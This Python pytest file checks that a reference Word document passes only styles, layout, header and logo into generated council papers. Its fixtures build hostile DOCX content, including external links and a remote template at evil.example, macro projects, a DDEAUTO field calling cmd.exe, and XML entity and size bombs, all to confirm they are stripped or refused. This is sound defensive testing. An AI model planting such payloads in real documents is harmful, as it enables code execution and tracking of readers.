"""A council's own Word document as the base of papers: what is taken over, and what never is."""

import base64
import io
import re
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import docx
import pytest
from docx.shared import Mm, Pt

from conftest import Diplan
from diplan.exchange.sheets.cells import SheetError
from diplan.exchange.sheets.parts import office_parts
from diplan.ground.errors import DiplanError, ReferenceDocumentError
from diplan.render.docx import docx as made
from diplan.report.document import Document, Layout, Section
from pages import EVERYTHING

LOGO = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
PAPER = Document("Title", [], [Section("Part", ["Words of the paper."])])
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

Change = Callable[[str, str], str]
Council = Callable[..., Path]


@pytest.fixture(name="council")
def _council(tmp_path: Path) -> Council:
    """Make a council's document, each part of it changed as *change* says, with *more* parts."""

    def make(
        change: Change = lambda _, text: text, more: Mapping[str, str | bytes] | None = None
    ) -> Path:
        document = docx.Document()
        document.add_paragraph("Words of the council's.")
        document.styles["Heading 1"].font.size = Pt(31)
        section = document.sections[0]
        section.page_width, section.page_height = Mm(210), Mm(297)
        section.left_margin = Mm(33)
        section.header.paragraphs[0].text = "Borough of Pretend"
        section.header.paragraphs[0].add_run().add_picture(io.BytesIO(LOGO))
        section.footer.paragraphs[0].text = "Civic Centre"
        plain, path = io.BytesIO(), tmp_path / "council.docx"
        document.save(plain)
        with zipfile.ZipFile(plain) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
            for entry in old.infolist():
                data: str | bytes = old.read(entry)
                if entry.filename.endswith((".xml", ".rels")) and isinstance(data, bytes):
                    data = change(entry.filename, data.decode())
                new.writestr(entry.filename, data)
            for name, given in (more or {}).items():
                new.writestr(name, given)
        return path

    return make


def paper(path: Path, document: Document = PAPER) -> zipfile.ZipFile:
    """A paper in the style of a document."""
    return zipfile.ZipFile(io.BytesIO(made(document, "Council", office_parts(path))))


def everything(archive: zipfile.ZipFile) -> str:
    """All the XML of a document."""
    return "\n".join(
        archive.read(name).decode()
        for name in archive.namelist()
        if name.endswith((".xml", ".rels"))
    )


def in_header(element: str, relation: str = "") -> Change:
    """Add an element to a document's header, and a relation that it may refer to."""

    def change(name: str, text: str) -> str:
        if re.fullmatch(r"word/header\d*\.xml", name):
            return text.replace("</w:p>", f"{element}</w:p>", 1)
        if re.fullmatch(r"word/_rels/header\d*\.xml\.rels", name) and relation:
            return text.replace("</Relationships>", f"{relation}</Relationships>")
        return text

    return change


def outside(kind: str, target: str) -> str:
    """A relation that leads out of the file."""
    return (
        f'<Relationship Id="out" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    )


def test_styles_pages_header_and_logo_are_taken(council: Council) -> None:
    """A paper looks as the council's document does, and says nothing of its text."""
    path = council()
    data = made(EVERYTHING, "Council", office_parts(path))
    document = docx.Document(io.BytesIO(data))
    section = document.sections[0]

    assert document.styles["Heading 1"].font.size == Pt(31)
    assert section.left_margin is not None
    assert round(section.left_margin.mm) == 33
    assert section.header.paragraphs[0].text.startswith("Borough of Pretend")
    assert section.footer.paragraphs[0].text == "Civic Centre"
    assert LOGO in [part.blob for part in section.header.part.related_parts.values()]
    assert "Words of the council's" not in everything(zipfile.ZipFile(io.BytesIO(data)))


def test_what_it_lacks_is_added(council: Council) -> None:
    """Our table style is added once, a style that is there is not, and each one used is there."""
    archive = paper(council(), EVERYTHING)
    styles = archive.read("word/styles.xml").decode()
    used = set(
        re.findall(r'<w:[a-z]+Style w:val="([^"]+)"', archive.read("word/document.xml").decode())
    )
    given = re.findall(r'w:styleId="([^"]+)"', styles)

    assert styles.count('w:val="Plan Table"') == 1
    assert styles.count('<w:name w:val="heading 1"/>') == 1
    assert used <= set(given)
    assert len(given) == len(set(given))


def test_large_print_is_large_in_every_style(council: Council) -> None:
    """The letters of a council's own styles are no smaller in large print than ours."""
    document = docx.Document(
        io.BytesIO(
            made(EVERYTHING._replace(layout=Layout.LARGE_PRINT), "", office_parts(council()))
        )
    )
    sizes = {name: document.styles[name].font.size for name in ("Normal", "Caption", "List Bullet")}

    assert all(size is not None and size >= Pt(16) for size in sizes.values()), sizes


def test_the_same_reference_gives_the_same_bytes(council: Council) -> None:
    """A reference changes how a paper looks, and not that its bytes are settled."""
    path = council()
    assert made(PAPER, "", office_parts(path)) == made(PAPER, "", office_parts(path))


VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
DRAWN = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'


@pytest.mark.parametrize(
    ("element", "relation"),
    [
        (
            f'<w:r><w:drawing><a:blip {DRAWN} r:link="out"/></w:drawing></w:r>',
            outside("image", "http://evil.example/pixel.png"),
        ),
        (
            f'<w:r><w:object {VML}><o:OLEObject Type="Link" r:id="out"/></w:object></w:r>',
            outside("oleObject", "file:///evil.example/share"),
        ),
        ('<w:altChunk r:id="out"/>', outside("aFChunk", "http://evil.example/x.html")),
        ('<w:subDoc r:id="out"/>', outside("subDocument", "http://evil.example/x.docx")),
        (f'<w:r><w:pict {VML}><v:imagedata src="http://evil.example/p"/></w:pict></w:r>', ""),
        (f'<w:r><w:pict {VML}><v:shape o:href="http://evil.example/p"/></w:pict></w:r>', ""),
        (
            '<w:hyperlink r:id="out"><w:r><w:t>site</w:t></w:r></w:hyperlink>',
            outside("hyperlink", "file:///evil.example"),
        ),
    ],
    ids=["linked picture", "OLE", "chunk", "subdocument", "VML source", "VML link", "hyperlink"],
)  # fmt: skip
def test_nothing_in_a_header_leads_out(element: str, relation: str, council: Council) -> None:
    """What a header would fetch is left out; its words and its logo stay."""
    path = council(in_header(element, relation))
    archive = paper(path)
    said = everything(archive)

    assert "evil.example" in everything(zipfile.ZipFile(path))
    assert "evil.example" not in said
    assert 'TargetMode="External"' not in said
    assert not re.search(r'r:(?:id|link)="out"', said)
    assert "Borough of Pretend" in said
    assert any(name.startswith("word/media/head") for name in archive.namelist())


def test_no_template_is_fetched(council: Council) -> None:
    """A remote template, which Word would fetch and run, is not followed and not kept."""

    def change(name: str, text: str) -> str:
        if name == "word/settings.xml":
            return text.replace("<w:zoom", '<w:attachedTemplate r:id="out"/><w:zoom', 1)
        return text

    relation = outside("attachedTemplate", "http://evil.example/t.dotm")
    rels = {"word/_rels/settings.xml.rels": RELATIONS.format(relation)}
    said = everything(paper(council(change, rels)))

    assert "attachedTemplate" not in said
    assert "evil.example" not in said


RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}'
    "</Relationships>"
)


def test_macros_are_refused_and_never_kept(council: Council) -> None:
    """A document of the kind that holds macros is refused; a stray project is left behind."""

    def macros(name: str, text: str) -> str:
        main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
        return text.replace(main, "application/vnd.ms-word.document.macroEnabled.main+xml")

    def stray(name: str, text: str) -> str:
        relation = f'<Relationship Id="vba" Type="{OFFICE}/vbaProject" Target="vbaProject.bin"/>'
        ends = "</Relationships>"
        return text.replace(ends, relation + ends) if "document.xml.rels" in name else text

    path = council(macros)
    with pytest.raises(ReferenceDocumentError, match="macros"):
        made(PAPER, "", office_parts(path))
    kept = paper(council(stray, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})).namelist()
    assert not [name for name in kept if "vba" in name.lower()]


DDE = "".join(
    f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>'
    for part in (" DDE", "AUTO", " c:\\\\cmd.exe")
)
BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'


@pytest.mark.parametrize(
    ("element", "named"),
    [
        ('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/p&quot; "/>', "INCLUDEP"),
        (
            f"{BEGIN}{DDE}{BEGIN.replace('begin', 'end')}",
            "DDEAUTO",
        ),
        (DDE, "DDEAUTO"),
    ],
    ids=["simple", "in pieces", "without a beginning"],
)
def test_fields_that_open_something_are_refused(element: str, named: str, council: Council) -> None:
    """A field is named that would open a file or a program, however it is cut into pieces."""
    path = council(in_header(element))
    with pytest.raises(ReferenceDocumentError, match=named):
        made(PAPER, "", office_parts(path))


def test_page_numbers_stay(council: Council) -> None:
    """A header may have Word work out the page and how many there are."""
    path = council(in_header('<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "/>'))
    assert "MERGEFORMAT" in everything(paper(path))


def damaged(part: str, old: str, new: str) -> Change:
    """Replace something in one part."""
    return lambda name, text: text.replace(old, new) if name == part else text


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (
            damaged("word/styles.xml", "<w:styles", '<!DOCTYPE x [<!ENTITY e "ha">]><w:styles'),
            "document type",
        ),
        (damaged("word/styles.xml", "</w:styles>", ""), "damaged"),
        (damaged("word/document.xml", "<w:body>", "<w:body>" + "<w:p>" * 200), "nested"),
        (
            damaged(
                "word/numbering.xml", "</w:numbering>", "<w:num/>" * 600_000 + "</w:numbering>"
            ),
            "more than 500,000 XML elements",
        ),
        (damaged("word/document.xml", "document", "dokument"), "not a Word document"),
        (damaged("_rels/.rels", "word/document.xml", "word/other.xml"), "not a Word document"),
        (damaged("word/document.xml", 'w:w="11906"', 'w:w="1"'), "no room for text"),
        (damaged("word/document.xml", 'w:w="11906"', 'w:w="wide"'), "no room for text"),
    ],
)
def test_harm_and_damage_are_told(change: Change, said: str, council: Council) -> None:
    """Each has a sentence of its own, and none is a crash."""
    path = council(change)
    with pytest.raises(DiplanError, match=said):
        made(PAPER, "", office_parts(path))


def test_what_is_no_package_is_told(tmp_path: Path) -> None:
    """A folder, a text and half a file are no documents."""
    for data in (b"", b"Dear all", b"PK\x03\x04" + b"x" * 50, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"):
        path = tmp_path / "x.docx"
        path.write_bytes(data)
        with pytest.raises(SheetError):
            office_parts(path)
    with pytest.raises(SheetError, match="not a file"):
        office_parts(tmp_path)


def test_the_command_tells_it_with_code_2(diplan: Diplan, tmp_path: Path) -> None:
    """The command names the file and what to do; a format without styles takes none."""
    path = tmp_path / "council.docx"
    path.write_text("not a document", encoding="utf-8")
    output = tmp_path / "x.docx"
    said = diplan("report", "page-plan", "--output", str(output), "--reference", str(path))

    assert said.code == 2
    assert "council.docx: the file is damaged, or is not what its name says" in said.err
    assert not output.exists()
    said = diplan("report", "page-plan", "-o", str(tmp_path / "x.md"), "--reference", str(path))
    assert said.code == 2
    assert "a markdown paper takes no style from council.docx" in said.err
